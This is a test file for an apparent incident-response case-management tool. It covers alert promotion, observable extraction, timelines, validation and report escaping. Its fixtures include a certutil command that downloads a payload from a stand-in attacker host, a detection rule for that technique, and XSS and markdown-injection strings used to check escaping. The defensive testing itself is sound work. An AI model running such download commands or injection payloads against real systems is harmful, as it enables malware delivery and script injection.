import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { hashToken } from '../api/auth.js';
import type { AuditEntry, CaseChangeEvent } from '../cases/types.js';
import type { RunningVigil } from './start.js';
import { bearer, jsonClient, startTestServer, sysmonProcess, type TestServer } from './testing/kit.js';

const TOKEN = 'test-admin-token-0123456789';
const VIEWER = 'test-viewer-token-0123456789';
const SHA256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
const MD5 = '098f6bcd4621d373cade4e832627b4f6';
const RULE = `
title: Suspicious certutil download
id: 22222222-2222-4222-8222-222222222222
author: Vigil tests
level: high
tags: [attack.command-and-control, attack.t1105]
logsource: { product: windows, category: process_creation }
detection:
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains: 'urlcache'
  condition: selection
`;

const sysmon = (host: string, time: string, url: string): Record<string, unknown> => sysmonProcess({
  host, time, recordId: 4242, image: 'C:\\Windows\\System32\\certutil.exe', commandLine: `certutil.exe -urlcache -split -f ${url} payload.exe`,
  data: { Hashes: `MD5=${MD5.toUpperCase()},SHA256=${SHA256.toUpperCase()},IMPHASH=00000000000000000000000000000000` },
});

let server: TestServer;
let vigil: RunningVigil;
const auth = bearer(TOKEN);
const audit: AuditEntry[] = [];
const changes: CaseChangeEvent[] = [];
const linkedHook: { alertIds: number[]; caseId: number }[] = [];

const call = jsonClient(() => vigil.url, auth);

async function ingestAlert(host: string, time: string): Promise<number> {
  const r = await call('POST', '/api/v1/events', sysmon(host, time, 'http://evil.example/p.exe'));
  assert.equal(r.status, 200, r.text);
  await vigil.detection.stage.idle();
  const list = await call('GET', '/api/v1/alerts?limit=500');
  const alert = (list.json.alerts as Array<{ id: number; hostName: string }>).find((a) => a.hostName === host);
  assert.ok(alert, `an alert for ${host}`);
  return alert.id;
}

before(async () => {
  server = await startTestServer('cases', {
    adminToken: TOKEN, rules: { 'certutil.yml': RULE },
    cases: {
      audit: { record: (e) => { audit.push(e); } },
      onChange: (e) => { changes.push(e); },
      onAlertsLinked: (alertIds, caseId) => { linkedHook.push({ alertIds, caseId }); },
    },
  });
  vigil = server.vigil;
  vigil.stores.tokens.add({ name: 'vera', hash: hashToken(VIEWER), role: 'viewer' });
});

after(() => server.close());

test('a case from the phishing template carries its fields and NIST-phased tasks', async () => {
  const templates = await call('GET', '/api/v1/case-templates');
  assert.deepEqual(templates.json.templates.map((t: { name: string }) => t.name).sort(), ['account-compromise', 'malware', 'phishing', 'ransomware']);

  const r = await call('POST', '/api/v1/cases', { template: 'phishing', title: 'Invoice lure to finance', owner: 'alice' });
  assert.equal(r.status, 201, r.text);
  const c = r.json.case;
  assert.equal(c.title, 'Invoice lure to finance');
  assert.equal(c.template, 'phishing');
  assert.equal(c.severity, 'medium');
  assert.equal(c.tlp, 'amber');
  assert.equal(c.status, 'open');
  assert.equal(c.owner, 'alice');
  assert.equal(c.createdBy, 'admin');
  assert.ok(c.tags.includes('attack.t1566'));
  assert.match(c.description, /suspicious e-mail/);
  const tasks = r.json.tasks as Array<{ title: string; phase: string; status: string; due: number }>;
  assert.equal(tasks.length, 12);
  assert.ok(tasks.every((t) => t.status === 'todo' && t.due > c.created));
  assert.deepEqual([...new Set(tasks.map((t) => t.phase))], ['detection-analysis', 'containment', 'eradication', 'recovery', 'post-incident']);

  const task = await call('PATCH', `/api/v1/cases/${c.id}/tasks/${r.json.tasks[0].id}`, { status: 'done', assignee: 'bob' });
  assert.equal(task.status, 200, task.text);
  assert.equal(task.json.status, 'done');
  assert.equal(task.json.assignee, 'bob');
  const added = await call('POST', `/api/v1/cases/${c.id}/tasks`, { title: 'Check the finance shared mailbox', due: '2030-01-02T03:04:05Z' });
  assert.equal(added.status, 201);
  assert.equal(added.json.due, Date.UTC(2030, 0, 2, 3, 4, 5));

  const unknown = await call('POST', '/api/v1/cases', { template: 'nope' });
  assert.equal(unknown.status, 400);
  assert.equal(unknown.json.error.field, 'template');
  assert.match(unknown.json.error.message, /known: account-compromise, malware, phishing, ransomware/);

  const listed = await call('GET', '/api/v1/cases?status=open,in-progress&owner=alice&tag=phishing');
  assert.equal(listed.json.total, 1);
  assert.equal(listed.json.cases[0].id, c.id);
  assert.equal((await call('GET', '/api/v1/cases?severity=critical')).json.total, 0);

  assert.ok(audit.some((e) => e.action === 'case.create' && e.targetId === String(c.id) && e.actor === 'admin'));
  assert.ok(audit.some((e) => e.action === 'case.task.update' && (e.before as { status: string }).status === 'todo' && (e.after as { status: string }).status === 'done'));
  assert.ok(changes.some((e) => e.type === 'created' && e.case.id === c.id && e.case.tasks.total === 12));
});

test('promoting an alert extracts its observables; attaching another to a second case gives sightings and similar cases', async () => {
  const a1 = await ingestAlert('ws01.corp.example', '2025-03-01T10:00:00.000Z');
  const a2 = await ingestAlert('ws02.corp.example', '2025-03-01T11:00:00.000Z');

  const promoted = await call('POST', '/api/v1/cases', { alertIds: [a1] });
  assert.equal(promoted.status, 201, promoted.text);
  const c1 = promoted.json.case;
  assert.equal(c1.title, 'Suspicious certutil download');
  assert.equal(c1.severity, 'high', 'from the rule level');
  assert.deepEqual(promoted.json.alerts.map((l: { alertId: number }) => l.alertId), [a1]);
  const obs = (promoted.json.observables as Array<{ type: string; value: string; subtype: string | null; source: string }>)
    .map((o) => `${o.type}:${o.value}${o.subtype ? `/${o.subtype}` : ''}`).sort();
  assert.deepEqual(obs, [`hash:${MD5}/md5`, `hash:${SHA256}/sha256`, 'host:ws01.corp.example', 'user:alice'].sort());
  assert.ok(promoted.json.observables.every((o: { source: string }) => o.source === `alert:${a1}`));
  assert.deepEqual(linkedHook.at(-1), { alertIds: [a1], caseId: c1.id });

  const other = await call('POST', '/api/v1/cases', { title: 'Second host downloading with certutil', severity: 'medium' });
  const c2 = other.json.case;
  const attached = await call('POST', `/api/v1/cases/${c2.id}/alerts`, { alertIds: [a2] });
  assert.equal(attached.status, 200, attached.text);
  assert.deepEqual(attached.json.linked, [a2]);
  const again = await call('POST', `/api/v1/cases/${c2.id}/alerts`, { alertIds: [a2] });
  assert.deepEqual(again.json.linked, [], 'linking twice links once');

  // By hand, in another spelling: deduplicated against the extracted one.
  const dup = await call('POST', `/api/v1/cases/${c2.id}/observables`, { type: 'hash', value: ` ${SHA256.toUpperCase()} ` });
  assert.equal(dup.status, 200);
  assert.equal(dup.json.observables[0].created, false);
  const manual = await call('POST', `/api/v1/cases/${c2.id}/observables`, { observables: [{ type: 'ip', value: '203.0.113.7' }, { type: 'domain', value: 'Evil.Example.' }] });
  assert.equal(manual.status, 201);
  assert.deepEqual(manual.json.observables.map((o: { observable: { value: string } }) => o.observable.value), ['203.0.113.7', 'evil.example']);

  const seen = await call('GET', `/api/v1/observables/hash/${SHA256}`);
  assert.equal(seen.status, 200);
  assert.deepEqual(seen.json.cases.map((s: { caseId: number }) => s.caseId).sort(), [c1.id, c2.id].sort());
  const seenUser = await call('GET', '/api/v1/observables/user/ALICE');
  assert.equal(seenUser.json.cases.length, 2, 'user sightings are case-insensitive');
  assert.equal((await call('GET', '/api/v1/observables/ip/198.51.100.1')).json.cases.length, 0);

  const similar = await call('GET', `/api/v1/cases/${c1.id}/similar`);
  assert.equal(similar.json.cases.length, 1);
  assert.equal(similar.json.cases[0].caseId, c2.id);
  assert.deepEqual(similar.json.cases[0].shared.map((s: { type: string }) => s.type).sort(), ['hash', 'hash', 'user']);
  await call('PATCH', `/api/v1/cases/${c2.id}`, { status: 'closed' });
  assert.equal((await call('GET', `/api/v1/cases/${c1.id}/similar`)).json.cases.length, 0, 'closed cases are not similar open cases');

  const missing = await call('POST', `/api/v1/cases/${c1.id}/alerts`, { alertIds: [a1, 999999] });
  assert.equal(missing.status, 400);
  assert.equal(missing.json.error.field, 'alertIds[1]');
});

test('comments and the timeline: alert events at event time, then analyst actions in order', async () => {
  const a3 = await ingestAlert('ws03.corp.example', '2025-02-01T08:00:00.000Z');
  const c = (await call('POST', '/api/v1/cases', { title: 'Timeline case', alertIds: [a3] })).json.case;
  const comment = await call('POST', `/api/v1/cases/${c.id}/comments`, { body: '**Confirmed** with the user: not them.\n\n<script>alert(1)</script>' });
  assert.equal(comment.status, 201);
  assert.equal(comment.json.body, '**Confirmed** with the user: not them.\n\n<script>alert(1)</script>', 'stored as written');
  await call('PATCH', `/api/v1/cases/${c.id}`, { status: 'in-progress', owner: 'carol' });
  await call('POST', `/api/v1/cases/${c.id}/observables`, { type: 'url', value: 'http://evil.example/p.exe' });
  await call('PATCH', `/api/v1/cases/${c.id}`, { status: 'contained' });

  const t = await call('GET', `/api/v1/cases/${c.id}/timeline`);
  assert.equal(t.status, 200);
  const entries = t.json.timeline as Array<{ at: number; kind: string; summary: string; actor?: string }>;
  assert.equal(entries[0]!.kind, 'event');
  assert.equal(entries[0]!.at, Date.parse('2025-02-01T08:00:00.000Z'), 'the event time, not the ingest time');
  const ats = entries.map((e) => e.at);
  assert.deepEqual(ats, [...ats].sort((x, y) => x - y));
  const kinds = entries.filter((e) => e.kind !== 'observable').map((e) => e.kind);
  assert.deepEqual(kinds, ['event', 'alert', 'created', 'alerts', 'comment', 'status', 'owner', 'status']);
  assert.ok(entries.some((e) => e.kind === 'observable' && e.summary.includes('url http://evil.example/p.exe') && e.actor === 'admin'));
  assert.deepEqual(entries.filter((e) => e.kind === 'status').map((e) => e.summary), ['Status open -> in-progress', 'Status in-progress -> contained']);
});

test('RCA and post-incident review appear in the Markdown report, with user text escaped', async () => {
  const a4 = await ingestAlert('ws04.corp.example', '2025-04-01T09:00:00.000Z');
  const c = (await call('POST', '/api/v1/cases', {
    template: 'malware', title: 'Loader on ws04 [click](javascript:alert(1)) <img src=x onerror=alert(1)>', alertIds: [a4],
  })).json.case;
  await call('POST', `/api/v1/cases/${c.id}/comments`, { body: '# Fake heading\n<script>steal()</script>\n| a | b |' });
  const rca = await call('PUT', `/api/v1/cases/${c.id}/rca`, { rootCause: 'User ran a macro from an e-mail attachment', contributingFactors: ['Macros allowed from the internet', 'No EDR block rule for certutil'] });
  assert.equal(rca.status, 200, rca.text);
  assert.equal(rca.json.rca.rootCause, 'User ran a macro from an e-mail attachment');
  const pir = await call('PUT', `/api/v1/cases/${c.id}/review`, {
    whatHappened: 'A loader was downloaded with certutil and blocked before execution.',
    impact: 'One workstation reimaged; no data loss.',
    wentWell: ['Alert within a minute'], toImprove: ['Isolation took 40 minutes'],
    actionItems: [{ action: 'Block macros from the internet by GPO', owner: 'it-ops', due: '2025-05-01' }],
  });
  assert.equal(pir.status, 200, pir.text);
  await call('PATCH', `/api/v1/cases/${c.id}`, { status: 'closed' });

  const r = await fetch(`${vigil.url}/api/v1/cases/${c.id}/report`, { headers: auth });
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type') ?? '', /^text\/markdown/);
  assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
  const md = await r.text();
  assert.ok(md.startsWith(`# Case ${c.id}: Loader on ws04 `));
  for (const heading of ['## Description', '## Alerts', '## Observables', '## Tasks', '## Timeline', '## Comments', '## Root-cause analysis', '## Post-incident review', '### What happened', '### Impact', '### What went well', '### What to improve', '### Action items']) {
    assert.ok(md.includes(`\n${heading}\n`), heading);
  }
  assert.ok(md.includes('User ran a macro from an e-mail attachment'));
  assert.ok(md.includes('- Macros allowed from the internet'));
  assert.ok(md.includes('| Block macros from the internet by GPO | it-ops | 2025-05-01T00:00:00Z | no |'));
  assert.ok(md.includes('Suspicious certutil download'));
  assert.ok(md.includes(`| hash (sha256) | ${SHA256} |`));
  assert.ok(md.includes('| Status | closed |'));
  // Injection: no raw HTML, no live link, no forged heading, no extra table cell.
  assert.ok(!/<script|<img/i.test(md));
  assert.ok(!/(^|[^\\])\]\(/m.test(md), 'no unescaped link syntax');
  assert.ok(md.includes('\\[click\\](javascript:alert(1))'));
  assert.ok(md.includes('&lt;script&gt;steal()&lt;/script&gt;'));
  assert.ok(!/^# Fake heading/m.test(md));
  assert.ok(md.includes('\\# Fake heading'));
  assert.ok(md.includes('\\| a \\| b \\|'));
});

test('validation errors answer 400 with the field; unknown cases 404; viewers read but do not write', async () => {
  const badTlp = await call('POST', '/api/v1/cases', { title: 'x', tlp: 'purple' });
  assert.equal(badTlp.status, 400);
  assert.equal(badTlp.json.error.field, 'tlp');
  assert.match(badTlp.json.error.message, /clear, green, amber, amber\+strict, red/);
  const badPap = await call('POST', '/api/v1/cases', { title: 'x', pap: 'amber+strict' });
  assert.equal(badPap.json.error.field, 'pap');
  assert.equal((await call('POST', '/api/v1/cases', { title: 'x', severity: 'urgent' })).json.error.field, 'severity');
  assert.equal((await call('POST', '/api/v1/cases', { titel: 'typo' })).json.error.field, 'titel');
  assert.equal((await call('POST', '/api/v1/cases', {})).json.error.field, 'title');

  const c = (await call('POST', '/api/v1/cases', { title: 'Validation target' })).json.case;
  const cases: [unknown, string][] = [
    [{ type: 'ip', value: '10.0.0.300' }, 'value'],
    [{ type: 'hash', value: 'abc123' }, 'value'],
    [{ type: 'email', value: 'not-an-email' }, 'value'],
    [{ type: 'domain', value: 'no_tld' }, 'value'],
    [{ type: 'url', value: 'javascript:alert(1)' }, 'value'],
    [{ type: 'mutex', value: 'x' }, 'type'],
    [{ observables: [{ type: 'ip', value: '10.0.0.1' }, { type: 'ip', value: 'nope' }] }, 'observables[1].value'],
  ];
  for (const [body, field] of cases) {
    const r = await call('POST', `/api/v1/cases/${c.id}/observables`, body);
    assert.equal(r.status, 400, JSON.stringify(body));
    assert.equal(r.json.error.field, field, JSON.stringify(body));
  }
  assert.equal((await call('GET', `/api/v1/cases/${c.id}`)).json.observables.length, 0, 'a rejected batch adds nothing');
  assert.equal((await call('GET', '/api/v1/observables/hash/xyz')).status, 400);
  assert.equal((await call('PATCH', `/api/v1/cases/${c.id}/tasks/1`, { status: 'done' })).status, 404);
  assert.equal((await call('PATCH', `/api/v1/cases/${c.id}`, { status: 'paused' })).json.error.field, 'status');
  assert.equal((await call('PUT', `/api/v1/cases/${c.id}/review`, { whatHappened: 'x', impact: 'y', actionItems: [{ action: 'z' }] })).json.error.field, 'actionItems[0].owner');
  assert.equal((await call('GET', '/api/v1/cases/424242')).status, 404);

  const viewer = { authorization: `Bearer ${VIEWER}` };
  assert.equal((await call('GET', `/api/v1/cases/${c.id}`, undefined, viewer)).status, 200);
  assert.equal((await call('GET', `/api/v1/cases/${c.id}/report`, undefined, viewer)).status, 200);
  assert.equal((await call('POST', '/api/v1/cases', { title: 'nope' }, viewer)).status, 403);
  assert.equal((await call('GET', '/api/v1/cases')).status, 200);
  assert.equal((await fetch(`${vigil.url}/api/v1/cases`)).status, 401);

  const del = await call('DELETE', `/api/v1/cases/${c.id}`);
  assert.equal(del.status, 204);
  assert.equal((await call('GET', `/api/v1/cases/${c.id}`)).status, 404);
  assert.ok(audit.some((e) => e.action === 'case.delete' && e.targetId === String(c.id)));
});

test('without a sink given, case changes land in the hash-chained audit log', async () => {
  const other = await startTestServer('cases-audit', { adminToken: TOKEN, rules: { 'certutil.yml': RULE } });
  const v = other.vigil;
  try {
    const r = await fetch(`${v.url}/api/v1/cases`, { method: 'POST', headers: auth, body: JSON.stringify({ title: 'Audited', tlp: 'red' }) });
    assert.equal(r.status, 201);
    const id = String(((await r.json()) as { case: { id: number } }).case.id);
    await fetch(`${v.url}/api/v1/cases/${id}`, { method: 'PATCH', headers: auth, body: JSON.stringify({ status: 'in-progress' }) });
    const records = v.audit.list({ targetType: 'case', targetId: id }).records;
    assert.deepEqual(records.map((x) => x.action).sort(), ['case.create', 'case.update']);
    assert.ok(records.every((x) => x.actor.name === 'admin' && x.actor.kind === 'token'));
    const upd = records.find((x) => x.action === 'case.update')!;
    assert.deepEqual([upd.before, upd.after], [{ status: 'open' }, { status: 'in-progress' }]);
    assert.equal(v.audit.verify().ok, true);
  } finally {
    await other.close();
  }
});
